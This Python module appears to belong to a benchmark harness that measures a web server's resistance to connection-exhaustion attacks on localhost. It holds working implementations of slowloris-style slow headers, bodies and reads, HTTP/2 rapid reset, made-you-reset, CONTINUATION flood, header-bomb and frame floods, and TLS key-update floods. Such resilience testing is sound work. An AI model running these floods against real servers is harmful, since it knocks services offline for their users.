"""What attackers do. Each runs in a process of its own, at the lowest priority: what is measured is the server, not who is first
on the core of the load.

An attacker opens its connections, says `ready`, goes on until the server has closed them all or its time is over, and
prints what became of them.
"""

import contextlib
import json
import os
import select
import socket
import ssl
import struct
import subprocess
import sys
import time
from dataclasses import dataclass

from . import http2

GET = b"GET /1k HTTP/1.1\r\nHost: bench.test\r\n\r\n"
# Longer than any head may take.
HEAD = b"GET /1k HTTP/1.1\r\nHost: bench.test\r\nX-Slow: " + b"y" * 100_000


@dataclass(frozen=True)
class Attack:
    name: str
    about: str
    # The connections; in a smoke test never more than 20.
    connections: int
    # Bytes that come first on each connection.
    first: bytes = b""
    # The first bytes are a request, whose answer is waited for.
    answered: bool = False
    # A byte of it now and then, or all of it again and again.
    then: bytes = b""
    drips: bool = False
    # The same with numbers that go up: called with the number of the next stream, gives bytes and the number after them.
    streams: object = None
    # What is read: everything, nothing, or so many bytes a second.
    reads: float = float("inf")
    # Which listener: plain, tls, proxied.
    to: str = "plain"
    # Protocol by ALPN where TLS is really spoken.
    tls: str = ""
    # Stays open: nothing is to be closed.
    stays: bool = False
    # Bytes that a connection may take at most in the server; None: not measured.
    goal: int = 0


def every(pairs):
    """Streams of requests, each with something behind it."""
    def blob(stream):
        out = bytearray()
        for _ in range(200):
            out += pairs(stream)
            stream += 2
        return bytes(out), stream
    return blob


def client_hello():
    """The beginning of a handshake, all but its last byte."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    context = ssl._create_unverified_context()
    with contextlib.suppress(ssl.SSLWantReadError):
        context.wrap_bio(incoming, outgoing, server_hostname="bench.test").do_handshake()
    return outgoing.read()[:-1]


def bomb():
    """4,000 bytes in the table, and then in every field by one byte."""
    entry = http2.literal(b"x", b"y" * 3900, first=0x40)
    block = http2.request() + entry
    return lambda stream: http2.head(stream, block if stream == 1 else http2.request() + b"\xbe" * 15_000)


def attacks():
    hello = http2.hello()
    open_post = http2.head(1, http2.request(b"POST"), flags=http2.END_HEADERS)
    ping = http2.frame(http2.PING, payload=bytes(8))
    reset = lambda stream: http2.head(stream) + http2.frame(http2.RST_STREAM, 0, stream, struct.pack(">I", 8))
    made = lambda stream: http2.head(stream, flags=http2.END_HEADERS) + http2.frame(
        http2.WINDOW_UPDATE, 0, stream, struct.pack(">I", 0))
    filler = http2.frame(http2.CONTINUATION, 0, 1, http2.literal(b"x-fill", b"y" * 1000))
    narrow = http2.hello([(http2.INITIAL_WINDOW_SIZE, 0)])
    large = http2.request(path=b"/large")
    yield Attack("slow head", "a head byte by byte, on the first request", 500, then=HEAD, drips=True)
    yield Attack("slow second head", "the same behind a hit", 500, first=GET, answered=True, then=HEAD, drips=True)
    yield Attack("slow read", "a hit of 16 MB, 100 bytes a second", 100, first=GET.replace(b"1k", b"large"), reads=100)
    yield Attack("no read", "the same, nothing is read", 100, first=GET.replace(b"1k", b"large"), reads=0)
    yield Attack("slow small body", "a body byte by byte that is taken in whole", 500, then=HEAD, drips=True,
                 first=b"POST /sink HTTP/1.1\r\nHost: bench.test\r\nContent-Length: 9999\r\n\r\n")
    yield Attack("slow large body", "a body byte by byte that is passed", 200, then=HEAD, drips=True,
                 first=b"POST /sink HTTP/1.1\r\nHost: bench.test\r\nContent-Length: 99999999\r\n\r\n")
    yield Attack("silent", "connections on which nothing is said", 500)
    yield Attack("silent after a hit", "the same after one", 500, first=GET, answered=True)
    yield Attack("handshake", "a ClientHello that lacks its last byte", 500, first=client_hello(), to="tls")
    yield Attack("PROXY header", "a header that lacks its end", 500, first=b"PROXY TCP4 192.0.2.1 ", to="proxied")
    yield Attack("key updates", "TLS 1.3 key updates (openssl s_client)", 1, to="tls", stays=True)
    yield Attack("h2 slow head", "a header block byte by byte", 200, drips=True, then=filler * 90,
                 first=hello + http2.head(1, flags=http2.END_STREAM))
    yield Attack("h2 silent", "HTTP/2 without a request", 500, first=hello)
    yield Attack("h2 rapid reset", "requests that are taken back at once (CVE-2023-44487)", 4, first=hello, streams=every(reset))
    yield Attack("h2 made resets", "requests that the server has to reset (CVE-2025-8671)", 4, first=hello, streams=every(made))
    yield Attack("h2 continuation", "a header block without end (CVE-2024-27316)", 4, then=filler * 20,
                 first=hello + http2.head(1, flags=http2.END_STREAM))
    yield Attack("h2 header bomb", "a large field in every field, by one byte each", 4, first=hello, streams=every(bomb()))
    yield Attack("h2 settings", "SETTINGS", 4, first=hello, then=http2.frame(http2.SETTINGS) * 1000)
    yield Attack("h2 pings", "PING", 4, first=hello, then=ping * 1000)
    yield Attack("h2 acknowledgements", "PING with ACK", 4, first=hello,
                 then=http2.frame(http2.PING, http2.ACK, payload=bytes(8)) * 1000)
    yield Attack("h2 priorities", "PRIORITY", 4, first=hello, then=http2.frame(http2.PRIORITY, 0, 3, bytes(5)) * 1000)
    yield Attack("h2 unknown frames", "frames of a kind that there is not", 4, first=hello, then=http2.frame(0xEE) * 1000)
    yield Attack("h2 empty data", "DATA without data", 4, first=hello + open_post, then=http2.frame(http2.DATA, 0, 1) * 1000)
    yield Attack("h2 window updates", "WINDOW_UPDATE by one byte", 4, first=hello,
                 then=http2.frame(http2.WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * 1000)
    yield Attack("h2 no window", "100 large hits on each connection, and no window for any", 20,
                 first=narrow + b"".join(http2.head(2 * number + 1, large) for number in range(100)))
    yield Attack("idle", "nothing said", 50_000, stays=True, goal=16 << 10)
    yield Attack("idle after a hit", "keep-alive", 50_000, first=GET, answered=True, stays=True, goal=16 << 10)
    yield Attack("idle TLS", "keep-alive after a hit", 50_000, first=GET, answered=True, to="tls", tls="http/1.1",
                 stays=True, goal=40 << 10)
    yield Attack("idle TLS h2", "keep-alive after a hit", 50_000, to="tls", tls="h2", answered=True, stays=True,
                 first=hello + http2.head(1, http2.request(scheme=b"https")), goal=40 << 10)


def source(number):
    """Where the next connection comes from: an address has some 28,000 ports for one server."""
    return f"127.0.0.{2 + number // 20_000}"


def connect(attack, ports, number, context):
    connection = socket.socket()
    if attack.reads != float("inf"):
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1024)
    # Ends with a reset: what the kernel would remember for a minute disturbs whatever is measured next.
    connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    connection.bind((source(number), 0))
    connection.settimeout(20)
    connection.connect(("127.0.0.1", ports[attack.to]))
    if attack.tls:
        connection = context.wrap_socket(connection, server_hostname="bench.test")
    if attack.first:
        connection.sendall(attack.first)
    if attack.answered:
        seen = b""
        # Of HTTP/2 some frames; what matters is that the answer is there.
        while (b"\r\n\r\n" not in seen or len(seen) < 1024) if attack.tls != "h2" else len(seen) < 1024:
            piece = connection.recv(4096)
            if not piece:
                raise RuntimeError("closed instead of answered")
            seen += piece
    connection.setblocking(False)
    return connection


class Running:
    """A connection under way."""

    def __init__(self, attack, connection):
        self.attack, self.connection = attack, connection
        self.opened, self.sent, self.stream, self.left, self.taken = time.monotonic(), 0, 1, b"", 0

    def step(self):
        """Goes on; False when the server has closed."""
        try:
            return self.send() and self.receive()
        except (ssl.SSLWantReadError, BlockingIOError):
            return True
        except OSError:
            return False

    def send(self):
        attack = self.attack
        with contextlib.suppress(BlockingIOError):
            if attack.drips:
                self.connection.send(attack.then[self.sent:self.sent + 1])
                self.sent += 1
            elif attack.then or attack.streams:
                if not self.left:
                    self.left = attack.then
                    if attack.streams:
                        self.left, self.stream = attack.streams(self.stream)
                self.left = self.left[self.connection.send(self.left):]
        return True

    def receive(self):
        reads = self.attack.reads
        if reads == float("inf"):
            while piece := self.connection.recv(65536):
                self.taken += len(piece)
            return False
        if reads > 0 and self.taken < (time.monotonic() - self.opened) * reads:
            piece = self.connection.recv(100)
            self.taken += len(piece)
            return bool(piece)
        # Who does not read is told by the poll.
        poll = select.poll()
        poll.register(self.connection, select.POLLHUP | select.POLLERR)
        return not poll.poll(0)


def key_updates(ports, seconds):
    command = ["openssl", "s_client", "-tls1_3", "-connect", f"127.0.0.1:{ports['tls']}"]
    client = subprocess.Popen(command, stdin=subprocess.PIPE, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    print("ready", flush=True)
    end = time.monotonic() + seconds
    with contextlib.suppress(BrokenPipeError):
        # One command a read.
        while time.monotonic() < end and client.poll() is None:
            client.stdin.write(b"K\n")
            client.stdin.flush()
            time.sleep(0.0002)
    closed = client.poll() is not None
    client.kill()
    client.wait()
    return {"closed": int(closed), "last": seconds}


def run(name, connections, seconds, ports):
    """The attacker's process."""
    os.nice(19)
    attack = next(attack for attack in attacks() if attack.name == name)
    if attack.name == "key updates":
        print(json.dumps(key_updates(ports, seconds)), flush=True)
        return
    context = ssl._create_unverified_context()
    context.set_alpn_protocols([attack.tls or "http/1.1"])
    opened, running, lives, failed = [], [], [], 0
    for number in range(connections):
        try:
            opened.append(connect(attack, ports, number, context))
            running.append(Running(attack, opened[-1]))
        except OSError:
            failed += 1
    print("ready", flush=True)
    if attack.stays:
        # Until the driver has measured.
        sys.stdin.readline()
        poll = select.poll()
        for connection in opened:
            poll.register(connection, select.POLLIN | select.POLLHUP)
        # Session tickets and frames may wait to be read; whoever hangs up does so with POLLHUP or an end.
        gone = 0
        for number, event in poll.poll(0):
            gone += bool(event & (select.POLLHUP | select.POLLERR))
        print(json.dumps({"closed": gone, "failed": failed, "last": 0}), flush=True)
        return
    end = time.monotonic() + seconds
    at_leisure = attack.drips or attack.reads < 1e9 or not (attack.then or attack.streams)
    while running and time.monotonic() < end:
        still = []
        for number, one in enumerate(running):
            if one.step():
                still.append(one)
            else:
                lives.append(time.monotonic() - one.opened)
            # Each at its own time within a tenth of a second, as clients that know nothing of each other: all at once would be
            # a load that comes in bursts.
            if at_leisure and number % 10 == 9:
                time.sleep(1 / len(running))
        running = still
        if at_leisure:
            time.sleep(1 / (len(running) + 10))
    print(json.dumps({"closed": len(lives), "failed": failed, "last": round(max(lives, default=0), 2)}), flush=True)
